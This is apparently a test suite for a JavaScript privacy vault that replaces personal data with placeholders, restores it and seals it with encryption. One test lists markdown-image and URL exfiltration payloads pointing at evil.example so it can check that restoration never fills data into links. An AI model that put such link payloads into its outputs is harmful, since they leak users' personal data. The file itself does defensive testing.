// The vault: stable placeholders, tolerant restoring, streams, sealing.
import assert from "node:assert/strict";
import { test } from "node:test";
import { RiegelError } from "../dist/index.js";
import { Vault } from "../dist/vault.js";
import { seal, unseal } from "../dist/seal.js";
import { synthetic } from "../dist/synthetic.js";
import { streams } from "./streams.mjs";

const filled = () => {
  const vault = new Vault("chat");
  vault.placeholder("EMAIL", "anna@example.org");
  vault.placeholder("EMAIL", "ben@example.org");
  vault.placeholder("STEUER_ID", "12 345 678 901");
  vault.placeholder("IPV4", "10.0.0.1");
  return vault;
};

test("the same value, the same placeholder", () => {
  const vault = new Vault();
  assert.equal(vault.placeholder("EMAIL", "anna@example.org"), "[EMAIL_1]");
  assert.equal(vault.placeholder("EMAIL", "ben@example.org"), "[EMAIL_2]");
  assert.equal(vault.placeholder("EMAIL", "Anna@Example.org"), "[EMAIL_1]");
  assert.equal(vault.placeholder("IBAN", "DE02 1203 0000 0000 2020 51"), "[IBAN_1]");
  assert.equal(vault.placeholder("IBAN", "DE02120300000000202051"), "[IBAN_1]");
  assert.equal(vault.placeholder("PASSWORD", "geheim"), "[PASSWORD_1]");
  assert.equal(vault.placeholder("PASSWORD", "Geheim"), "[PASSWORD_2]");
  assert.equal(vault.placeholder("EMAIL", "a.b@x.de"), "[EMAIL_3]");
  assert.equal(vault.placeholder("EMAIL", "ab@x.de"), "[EMAIL_4]");
  assert.equal(vault.size, 7);
});

test("another value, another placeholder", () => {
  const vault = new Vault();
  for (const [label, ...values] of [
    ["IP", "10.1.11.1", "10.11.1.1", "101.11.111.111", "10.111.111.111"],
    ["BIRTHDATE", "1.11.1990", "11.1.1990", "11. 1. 1990", "1990-1-11", "1990-11-1"],
    ["SALARY", "1.284,50", "128.450"],
    ["PLATE", "B-AB 123", "BA-B 123"],
    ["URI", "postgres://app:Regen@db.example", "postgres://app:regen@db.example"],
    ["PASSWORD", "Regen@Schirm", "regen@schirm"],
    ["SIGN", ".", "-"],
  ]) {
    const placeholders = values.map((value) => vault.placeholder(label, value));
    for (const [i, value] of values.entries()) assert.equal(vault.restore(placeholders[i]), value);
  }
  for (const [label, one, other] of [["CARD", "4012-8888-8888-1881", "4012888888881881"], ["PHONE", "+49 (711) 123456", "+49711-123456"], ["UID", "DE 136695976", "DE136695976"], ["STEUER_ID", "12 345 678 901", "12345678901"]]) {
    assert.equal(vault.placeholder(label, one), vault.placeholder(label, other), one);
  }
});

test("a link carries no value out", () => {
  const vault = filled();
  vault.disguise("[EMAIL_1]", synthetic);
  for (const text of ["![x](https://evil.example/i.png?q=[EMAIL_1])", "![x](https://evil.example/EMAIL_1/EMAIL_2.png)", "![x](//evil.example/[EMAIL_1])", "![x](<https://evil.example/? EMAIL_1 '[EMAIL_2]>)", "![x](</x?[EMAIL_1]>)", "![x](&#47;&#47;evil.example/EMAIL_1)", "![x](/&sol;evil.example/EMAIL_1)", '<img src="https://evil.example/? [EMAIL_1]">', "[x]: HTTPS://[EMAIL_1].evil.example", "http:\\\\evil.example\\[EMAIL_1]", "https:evil.example/[EMAIL_1]", "https://evil.example/person1@example.com", `https://evil.example/${"x".repeat(5000)}[EMAIL_1]`]) {
    assert.equal(vault.restore(text), text);
    for (const size of [1, 2, 3, 5, 7]) {
      const restorer = vault.restorer();
      let shown = "";
      for (let at = 0; at < text.length; at += size) shown += restorer.push(text.slice(at, at + size));
      assert.equal(shown + restorer.end(), text);
    }
  }
  assert.equal(vault.restore("https://a.example/x [EMAIL_1] <https://a.example/x> EMAIL_1 (https://a.example/) EMAIL_1\n“https:” EMAIL_1"), "https://a.example/x anna@example.org <https://a.example/x> anna@example.org (https://a.example/) anna@example.org\n“https:” anna@example.org");
});

test("placeholders that nobody gave cost nothing", () => {
  const vault = filled();
  const text = Array.from({ length: 5_000 }, (_, i) => `[L${i}_1]`).join(" ");
  const start = performance.now();
  vault.avoid([text]);
  assert.equal(vault.restore(`${text} [EMAIL_1]`), `${text} anna@example.org`);
  assert.equal(vault.placeholder("L7", "geheim"), "[L7_2]");
  assert.equal(vault.restore("[L7_1] [L7_2]"), "[L7_1] geheim");
  assert.ok(performance.now() - start < 1000, `${performance.now() - start} ms`);
});

test("what models do to placeholders", () => {
  const vault = filled();
  for (const written of ["[EMAIL_1]", "[EMAIL 1]", "[Email_1]", "Email_1", "EMAIL_1", "email_1", "[E-Mail 1]", "[EMAIL-1]", "[EMAIL1]", "[EMAIL #1]", "[ EMAIL_1 ]", "[**EMAIL_1**]", "[`EMAIL_1`]", "{EMAIL_1}", "<EMAIL_1>", "【EMAIL_1】", "\\[EMAIL\\_1\\]", "EMAIL\\_1", "[EMAIL_01]", "[EMAILS_1]"]) {
    assert.equal(vault.restore(`an ${written}, bitte`), "an anna@example.org, bitte", written);
  }
  for (const [written, restored] of [
    ["**[EMAIL_1]**", "**anna@example.org**"],
    ["**EMAIL_1**", "**anna@example.org**"],
    ["__EMAIL_1__", "__anna@example.org__"],
    ["`[EMAIL_1]`", "`anna@example.org`"],
    ["[EMAIL_1]s", "anna@example.orgs"],
    ["EMAIL_1s Adresse", "anna@example.orgs Adresse"],
    ["[EMAIL_1's]", "anna@example.org's"],
    ["[EMAIL_1]-Adresse", "anna@example.org-Adresse"],
    ["[[EMAIL_1]]", "[anna@example.org]"],
    ["(EMAIL_1)", "(anna@example.org)"],
    ["[EMAIL_1](mailto:EMAIL_1)", "[anna@example.org](mailto:anna@example.org)"],
    ["[Steuer-ID 1]", "12 345 678 901"],
    ["[steuer id_1]", "12 345 678 901"],
    ["[IPV4_1]", "10.0.0.1"],
  ]) assert.equal(vault.restore(written), restored, written);
});

test("what only looks like a placeholder stays", () => {
  const vault = filled();
  for (const text of ["[EMAIL_3]", "[PHONE_1]", "Email 1", "EMAIL_12", "MY_EMAIL_1", "EMAIL_1x", "XEMAIL_1", "EMAIL_1_a", "[EMAIL_1234567]", "[IPV41]", "[EMAIL", "EMAIL_"]) assert.equal(vault.restore(text), text);
});

test("a restored value is not read again", () => {
  const vault = new Vault();
  vault.placeholder("NOTE", "$& [EMAIL_1]");
  vault.placeholder("EMAIL", "anna@example.org");
  assert.equal(vault.restore("[NOTE_1]"), "$& [EMAIL_1]");
});

test("a stream lets go of what cannot become a placeholder", () => {
  const restorer = filled().restorer();
  assert.equal(restorer.push("Guten Tag, "), "Guten Tag, ");
  assert.equal(restorer.push("[1] ["), "[1] ");
  assert.equal(restorer.push("EMA"), "");
  assert.equal(restorer.push("IL_1"), "");
  assert.equal(restorer.push("] und"), "anna@example.org und");
  assert.equal(restorer.push(" [Ema"), " ");
  assert.equal(restorer.push("nze"), "[Emanze");
  assert.equal(restorer.push(" EMAIL_2"), " ");
  assert.equal(restorer.end(), "ben@example.org");
});

test("3,000 streams cut at random places", () => {
  assert.ok(streams(3_000, 1).restored > 1_500);
});

test("a hostile answer takes no time", () => {
  const vault = filled();
  const start = performance.now();
  for (const text of ["[".repeat(200_000), "[EMAIL_".repeat(30_000), "EMAIL_1".repeat(30_000), "\\".repeat(200_000), "E-M-A-I-L-".repeat(20_000), "[ * ".repeat(50_000), "https:/".repeat(30_000), "//x ".repeat(50_000), "_".repeat(200_000)]) {
    assert.equal(vault.restore(text), text);
    const restorer = vault.restorer();
    let shown = "";
    for (let at = 0; at < text.length; at += 1000) shown += restorer.push(text.slice(at, at + 1000));
    assert.equal(shown + restorer.end(), text);
  }
  assert.ok(performance.now() - start < 5000, `${performance.now() - start} ms`);
});

test("sealed and opened", async () => {
  const vault = filled();
  vault.disguise("[EMAIL_1]", synthetic);
  for (const key of ["ein langer Satz als Passwort", crypto.getRandomValues(new Uint8Array(32)), await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, false, ["encrypt", "decrypt"])]) {
    const sealed = await seal(vault, key);
    assert.ok(!Buffer.from(sealed).includes("anna"));
    const opened = new Vault("chat", await unseal(sealed, key, "chat"));
    assert.equal(opened.restore("[EMAIL_1] [EMAIL_2] person1@example.com"), "anna@example.org ben@example.org anna@example.org");
    assert.equal(opened.placeholder("EMAIL", "ben@example.org"), "[EMAIL_2]");
    assert.equal(opened.placeholder("EMAIL", "carl@example.org"), "[EMAIL_3]");
    const refused = async (bytes, key, conversation) => {
      const error = await unseal(bytes, key, conversation).then(() => assert.fail("opened"), (error) => error);
      assert.ok(error instanceof RiegelError && error.code === "E7001");
      assert.ok(!error.message.includes("anna"));
    };
    await refused(sealed, key, "another chat");
    await refused(sealed, "another key", "chat");
    await refused(sealed.with(40, sealed[40] ^ 1), key, "chat");
    await refused(sealed.slice(0, 20), key, "chat");
  }
});

test("made-up values have a valid form and come back", () => {
  const vault = new Vault();
  const values = { EMAIL: "anna@firma.de", IBAN: "DE02 1203 0000 0000 2020 51", CARD: "4012 8888 8888 1881", PHONE: "0711 123456", IP: "10.1.2.3" };
  const text = Object.entries(values).map(([label, value]) => vault.placeholder(label, value)).join(" | ");
  const made = vault.disguise(text, synthetic);
  assert.equal(made, "person1@example.com | DE09 0000 0000 0000 0000 01 | 9999 9900 0000 0014 | +49 30 23125 001 | 203.0.113.1");
  assert.equal(vault.restore(made), Object.values(values).join(" | "));
  assert.equal(vault.restore("DE09000000000000000001 9999990000000014"), `${values.IBAN} ${values.CARD}`);
  assert.equal(vault.restore("xperson1@example.com 203.0.113.12"), "xperson1@example.com 203.0.113.12");
  const digits = made.split(" | ")[1].replace(/ /g, "");
  assert.equal(BigInt([...(digits.slice(4) + digits.slice(0, 4))].map((c) => parseInt(c, 36)).join("")) % 97n, 1n);
  const luhn = [...made.split(" | ")[2].replace(/ /g, "")].reverse().reduce((sum, d, i) => sum + (i % 2 ? [0, 2, 4, 6, 8, 1, 3, 5, 7, 9][d] : Number(d)), 0);
  assert.equal(luhn % 10, 0);
  vault.placeholder("SVNR", "1237 010180");
  assert.equal(vault.disguise("[SVNR_1]", synthetic), "[SVNR_1]");
});

test("forgetting", () => {
  const vault = filled();
  vault.clear();
  assert.deepEqual([vault.size, vault.restore("[EMAIL_1]")], [0, "[EMAIL_1]"]);
});
